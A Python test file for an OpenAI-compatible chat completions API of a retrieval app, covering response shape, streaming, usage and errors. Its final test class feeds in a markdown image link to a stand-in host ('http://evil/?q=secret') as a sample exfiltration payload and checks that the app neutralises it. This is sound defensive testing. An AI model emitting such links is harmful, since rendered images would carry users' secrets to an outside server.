"""/v1, in the format that OpenAI's clients send and expect (raw HTTP)."""

from __future__ import annotations

from typing import Any

import pytest
from app_doubles import Box, LanguageModelDouble
from events import openai_chunks
from starlette.testclient import TestClient

from rag_app.conversation import Turn
from rag_app.engines.openai import Usage
from rag_app.errors import EngineFailed

MODEL = LanguageModelDouble


def chat(client: TestClient, *contents: object, **options: Any) -> Any:
    """POST a conversation whose turns alternate, ending with the user's."""
    roles = ["user", "assistant"]
    messages = [
        {"role": roles[(len(contents) - 1 - at) % 2], "content": content}
        for at, content in enumerate(contents)
    ]
    body = {"model": "aibox", "messages": messages, **options}
    return client.post("/v1/chat/completions", json=body)


@pytest.fixture
def model() -> LanguageModelDouble:
    return LanguageModelDouble(["Type ", "it [1].", Usage(120, 6)])


def test_there_is_one_model_and_it_names_its_engine(client: TestClient) -> None:
    (listed,) = client.get("/v1/models").json()["data"]
    assert (listed["id"], listed["object"]) == ("aibox", "model")
    assert listed["aibox"]["engine"] == "double-model"
    assert client.get("/v1/models/aibox").json() == listed


def test_a_completion_has_the_official_shape_and_our_citations(client: TestClient) -> None:
    body = chat(client, "How do I roll back?").json()
    assert body["object"] == "chat.completion"
    assert body["id"].startswith("chatcmpl-")
    (choice,) = body["choices"]
    assert (choice["index"], choice["finish_reason"]) == (0, "stop")
    assert choice["message"]["role"] == "assistant"
    text = "Type it [1].\n\nSources:\n[1] manual.md, Roll back"
    assert choice["message"]["content"] == text
    usage = body["usage"]
    assert [usage[key] for key in ("prompt_tokens", "completion_tokens")] == [120, 6]
    assert (usage["total_tokens"], usage["estimated"]) == (126, False)
    assert body["citations"][0]["document"] == "manual.md"
    assert body["aibox"]["grounded"] is True


def test_a_stream_adds_up_to_the_completion(client: TestClient) -> None:
    whole = chat(client, "How do I roll back?").json()
    response = chat(client, "How do I roll back?", stream=True)
    assert response.headers["content-type"].startswith("text/event-stream")
    chunks = openai_chunks(response.text)
    assert {chunk["object"] for chunk in chunks} == {"chat.completion.chunk"}
    assert len({chunk["id"] for chunk in chunks}) == 1
    assert chunks[0]["choices"][0]["delta"] == {"role": "assistant", "content": ""}
    text = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
    assert text == whole["choices"][0]["message"]["content"]
    finishes = [chunk["choices"][0]["finish_reason"] for chunk in chunks]
    assert finishes == [None] * (len(chunks) - 1) + ["stop"]
    assert chunks[-1]["citations"] == whole["citations"]


def test_usage_is_streamed_when_asked_for(client: TestClient) -> None:
    options = {"include_usage": True}
    chunks = openai_chunks(chat(client, "roll back", stream=True, stream_options=options).text)
    assert chunks[-1]["choices"] == []
    assert chunks[-1]["usage"]["total_tokens"] == 126


def test_the_last_user_message_is_the_question(
    client: TestClient, box: Box, model: LanguageModelDouble
) -> None:
    messages = [
        {"role": "system", "content": "Be a pirate."},
        {"role": "user", "content": "Hello?"},
        {"role": "assistant", "content": "Yes?"},
        {"role": "user", "content": [{"type": "text", "text": "How do I roll back?"}]},
    ]
    client.post("/v1/chat/completions", json={"model": "aibox", "messages": messages})
    assert box.searcher.asked == ["How do I roll back?"]
    assert model.histories == [(Turn("user", "Hello?"), Turn("assistant", "Yes?"))]


def test_a_missing_count_is_estimated_and_says_so(client: TestClient, box: Box) -> None:
    usage = chat(client, "점심 메뉴는?").json()["usage"]
    assert usage["estimated"] is True
    assert usage["total_tokens"] == usage["prompt_tokens"] + usage["completion_tokens"] > 0


@pytest.mark.parametrize(
    ("body", "status", "code"),
    [
        (
            {"model": "gpt-9", "messages": [{"role": "user", "content": "a"}]},
            404,
            "model_not_found",
        ),
        ({"messages": []}, 422, "bad-request"),
        ({"messages": [{"role": "assistant", "content": "a"}]}, 400, "no-question"),
        ({"messages": [{"role": "user", "content": " "}]}, 400, "no-question"),
        ({"messages": [{"role": "user", "content": "a" * 4001}]}, 400, "question-too-long"),
        (
            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {}}]}]},
            400,
            "text-only",
        ),
        ({"messages": [{"role": "user", "content": "a"}], "n": 2}, 422, "bad-request"),
    ],
)
def test_errors_have_openais_shape(
    client: TestClient, body: dict[str, object], status: int, code: str
) -> None:
    response = client.post("/v1/chat/completions", json=body)
    error = response.json()["error"]
    assert response.status_code == status
    assert (error["code"], error["type"]) == (code, "invalid_request_error")
    assert set(error) >= {"message", "type", "param", "code"}


def test_an_unknown_path_has_openais_shape_too(client: TestClient) -> None:
    assert client.get("/v1/embeddings").json()["error"]["code"] == "not-found"


class TestWithAModelThatBreaksOff:
    """Text that was streamed cannot be called back; it is declared void."""

    @pytest.fixture
    def model(self) -> LanguageModelDouble:
        return LanguageModelDouble(["Half an answer"], EngineFailed("It broke off."))

    def test_the_text_is_declared_void_and_replaced(self, client: TestClient) -> None:
        chunks = openai_chunks(chat(client, "roll back", stream=True).text)
        text = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in chunks)
        assert text.startswith("Half an answer\n\n---\n\nThe text above is void. It broke off.")
        assert "Type aibox rollback to roll back. [1]" in text
        assert chunks[-1]["aibox"]["degraded"] == "It broke off."

    def test_without_streaming_only_the_replacement_is_seen(self, client: TestClient) -> None:
        text = chat(client, "roll back").json()["choices"][0]["message"]["content"]
        assert "Half" not in text


class TestWithAModelThatWritesImages:
    """Other clients draw images; a fetched image would carry words out of the house."""

    @pytest.fixture
    def model(self) -> LanguageModelDouble:
        return LanguageModelDouble(["See !", "[x](http://evil/?q=secret) and ![y][1]!"])

    def test_no_image_begins_in_the_text(self, client: TestClient) -> None:
        for stream in (False, True):
            text = chat(client, "roll back", stream=stream).text
            assert "![" not in text
            assert "!\\\\[x](http" in text
